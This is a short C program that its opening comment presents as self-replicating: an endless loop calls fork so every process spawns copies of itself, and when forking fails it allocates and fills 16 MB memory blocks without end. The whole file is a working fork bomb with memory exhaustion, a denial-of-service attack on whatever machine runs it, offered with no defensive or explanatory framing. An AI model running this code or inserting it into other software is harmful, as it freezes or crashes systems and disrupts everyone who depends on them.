/* Every process makes more of its kind, and takes memory once it can make no more. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    for (;;) {
        if (fork() >= 0) continue;
        char *block = malloc(1 << 24);
        if (block) memset(block, 1, 1 << 24);
    }
}
